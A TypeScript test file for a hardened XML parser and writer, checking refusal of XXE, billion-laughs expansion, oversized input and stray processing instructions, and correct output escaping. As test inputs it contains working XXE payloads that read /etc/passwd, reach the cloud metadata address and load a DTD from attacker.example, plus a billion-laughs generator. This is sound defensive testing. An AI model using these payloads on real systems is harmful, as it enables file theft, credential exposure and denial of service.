import { test } from 'node:test';
import assert from 'node:assert/strict';
import { DEFAULT_XML_LIMITS, parseXml, writeXml, type XmlLimits } from './index.ts';

function refused(input: string, code: string, limits: XmlLimits = DEFAULT_XML_LIMITS): string {
  const r = parseXml(input, limits);
  assert.equal(r.ok, false, 'expected a refusal');
  if (r.ok) throw new Error('unreachable');
  assert.equal(r.code, code, r.detail);
  return r.detail;
}

test('parses elements, namespaces, attributes, CDATA and the predefined entities', () => {
  const r = parseXml('<?xml version="1.0" encoding="utf-8"?>\n<s:E xmlns:s="urn:s" xmlns="urn:d" a="1 &amp; 2"><b>x &lt; y &#65;&#x42;<![CDATA[<raw>]]></b><s:c/></s:E>');
  assert.ok(r.ok);
  const root = r.root;
  assert.equal(root.local, 'E');
  assert.equal(root.ns, 'urn:s');
  assert.equal(root.attributes.a, '1 & 2');
  assert.equal(root.children[0]!.ns, 'urn:d');
  assert.equal(root.children[0]!.text, 'x < y AB<raw>');
  assert.equal(root.children[1]!.ns, 'urn:s');
});

test('XXE: a DOCTYPE with an external file entity is refused before parsing', () => {
  const detail = refused('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', 'xml-forbidden');
  assert.doesNotMatch(detail, /passwd/);
});

test('XXE: URL entities and parameter entities are refused', () => {
  refused('<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&x;</r>', 'xml-forbidden');
  refused('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><r/>', 'xml-forbidden');
  refused('<!DOCTYPE r SYSTEM "http://attacker.example/r.dtd"><r/>', 'xml-forbidden');
});

test('billion laughs is refused at the DTD, costing one scan', () => {
  let dtd = '<!DOCTYPE lolz [<!ENTITY lol "lol">';
  for (let i = 1; i <= 9; i++) dtd += `<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`;
  refused(`${dtd}]><lolz>&lol9;</lolz>`, 'xml-forbidden');
});

test('undeclared entities (there is no DTD to declare them) are malformed', () => {
  refused('<r>&lol9;</r>', 'xml-malformed');
  refused('<r a="&x;"/>', 'xml-malformed');
  refused('<r>a & b</r>', 'xml-malformed');
  refused('<r>&#0;</r>', 'xml-malformed');
});

test('quadratic blow-up: long attribute values and text runs are refused', () => {
  refused(`<r a="${'x'.repeat(DEFAULT_XML_LIMITS.maxAttributeLength + 1)}"/>`, 'xml-too-large');
  refused(`<r>${'x'.repeat(DEFAULT_XML_LIMITS.maxTextLength + 1)}</r>`, 'xml-too-large');
  refused(`<r><![CDATA[${'x'.repeat(DEFAULT_XML_LIMITS.maxTextLength + 1)}]]></r>`, 'xml-too-large');
});

test('deep nesting, many elements and many attributes are refused', () => {
  const depth = DEFAULT_XML_LIMITS.maxDepth + 1;
  refused(`${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`, 'xml-too-large');
  refused(`<r>${'<a/>'.repeat(DEFAULT_XML_LIMITS.maxElements)}</r>`, 'xml-too-large');
  const attrs = Array.from({ length: DEFAULT_XML_LIMITS.maxAttributes + 1 }, (_, i) => `a${i}="1"`).join(' ');
  refused(`<r ${attrs}/>`, 'xml-too-large');
  refused('x'.repeat(10), 'xml-too-large', { ...DEFAULT_XML_LIMITS, maxBytes: 9 });
});

test('a document at the limits is accepted', () => {
  const depth = DEFAULT_XML_LIMITS.maxDepth;
  assert.ok(parseXml(`${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`).ok);
  const attrs = Array.from({ length: DEFAULT_XML_LIMITS.maxAttributes }, (_, i) => `a${i}="1"`).join(' ');
  assert.ok(parseXml(`<r ${attrs}/>`).ok);
  assert.ok(parseXml(`<r a="${'x'.repeat(DEFAULT_XML_LIMITS.maxAttributeLength)}"/>`).ok);
  assert.ok(parseXml(`<r>${'x'.repeat(DEFAULT_XML_LIMITS.maxTextLength)}</r>`).ok);
});

test('processing instructions other than the leading XML declaration are refused', () => {
  refused('<?xml-stylesheet href="http://x.example/a.xsl"?><r/>', 'xml-forbidden');
  refused('<r><?php echo 1; ?></r>', 'xml-forbidden');
  refused('<r/><?xml version="1.0"?>', 'xml-forbidden');
});

test('malformed documents are refused without quoting them', () => {
  for (const doc of ['<r><secret-tag></r>', '<r', '', 'not xml', '<a/><b/>', '<r x="1" x="2"/>', '<p:r/>', '<r><!-- open</r>', '<r a="<"/>', '<r a="open/>']) {
    const r = parseXml(doc);
    assert.equal(r.ok, false, doc);
    if (!r.ok) {
      assert.equal(r.code, 'xml-malformed', `${doc}: ${r.detail}`);
      assert.doesNotMatch(r.detail, /secret-tag/);
    }
  }
});

test('the writer escapes text and attributes so data never becomes markup', () => {
  const xml = writeXml({ name: 'r', attributes: { a: '"><x y=\'1\'>&\n' }, children: ['</r><evil/>&amp;', { name: 'c' }] });
  assert.equal(xml, '<r a="&quot;&gt;&lt;x y=&apos;1&apos;&gt;&amp;&#10;">&lt;/r&gt;&lt;evil/&gt;&amp;amp;<c/></r>');
  const back = parseXml(xml);
  assert.ok(back.ok);
  assert.equal(back.root.attributes.a, '"><x y=\'1\'>&\n');
  assert.equal(back.root.text, '</r><evil/>&amp;');
  assert.throws(() => writeXml({ name: 'bad name' }));
  assert.throws(() => writeXml('\u0001'));
});
